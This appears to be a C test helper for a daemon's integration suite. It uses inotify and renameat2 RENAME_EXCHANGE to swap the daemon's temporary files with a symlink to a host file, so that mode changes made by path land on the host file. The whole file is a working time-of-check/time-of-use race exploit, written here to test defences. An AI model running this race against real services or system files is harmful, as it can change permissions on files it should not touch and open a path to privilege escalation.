/* A hostile consumer for t/integration/hostile-fs.sh: races the daemon's temporary
 * files in a directory of the consumer.
 *
 *   race-exchange DIR PREFIX BAIT
 *
 * Learns the names of files starting with PREFIX that appear in DIR
 * (inotify), and swaps each of them with BAIT, a symlink the test made that
 * points at a host file, with renameat2(RENAME_EXCHANGE) as soon as it
 * exists: at once when inotify reports it, and by spinning on the names it
 * has seen, since a name used once may be used again.  A daemon that
 * changes the mode of its temporary file by path then changes the host
 * file's.  BAIT is made a symlink again after each swap.  Runs until
 * SIGTERM, then prints how many names it saw and how many swaps it made. */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int exchange(int dir, const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

/* BAIT back to a symlink to target (a round may leave the daemon's node
 * there). */
static void rebait(int dir, const char *bait, const char *target)
{
	struct stat st;
	if (fstatat(dir, bait, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode))
		return;
	unlinkat(dir, bait, 0);
	if (symlinkat(target, dir, bait) < 0)
		perror("symlinkat");
}

#define MAX_NAMES 8

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: race-exchange DIR PREFIX BAIT\n");
		return 2;
	}
	const char *prefix = argv[2], *bait = argv[3];
	signal(SIGTERM, on_term);
	int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0) {
		perror(argv[1]);
		return 1;
	}
	char target[PATH_MAX];
	ssize_t tl = readlinkat(dir, bait, target, sizeof(target) - 1);
	if (tl < 0) {
		perror("bait must be a symlink");
		return 1;
	}
	target[tl] = '\0';
	int in = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	if (in < 0 || inotify_add_watch(in, argv[1], IN_CREATE | IN_MOVED_TO) < 0) {
		perror("inotify");
		return 1;
	}
	char names[MAX_NAMES][NAME_MAX + 1];
	int nnames = 0, next = 0;
	unsigned long seen = 0, swaps = 0;
	char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
	printf("ready\n");
	fflush(stdout);
	while (!stop) {
		if (!nnames) {
			/* Nothing to race yet: wait for the first name. */
			struct pollfd p = { .fd = in, .events = POLLIN };
			poll(&p, 1, 100);
		}
		ssize_t n = read(in, buf, sizeof(buf));
		for (char *e = buf; n > 0 && e < buf + n;) {
			struct inotify_event *ev = (struct inotify_event *)e;
			e += sizeof(*ev) + ev->len;
			if (!ev->len || strncmp(ev->name, prefix, strlen(prefix)) != 0)
				continue;
			if (exchange(dir, ev->name, bait) == 0)
				swaps++;
			int known = 0;
			for (int i = 0; i < nnames; i++)
				known |= !strcmp(names[i], ev->name);
			if (!known) {
				seen++;
				snprintf(names[next], sizeof(names[next]), "%s", ev->name);
				next = (next + 1) % MAX_NAMES;
				if (nnames < MAX_NAMES)
					nnames++;
			}
		}
		rebait(dir, bait, target);
		/* The hot loop: nothing but the swap, so the window between
		 * the daemon's mknod and its next call on the name is hit. */
		for (int k = 0; k < 4096 && nnames; k++)
			for (int i = 0; i < nnames; i++)
				if (exchange(dir, names[i], bait) == 0) {
					swaps++;
					rebait(dir, bait, target);
				}
	}
	printf("names=%lu swaps=%lu\n", seen, swaps);
	return 0;
}
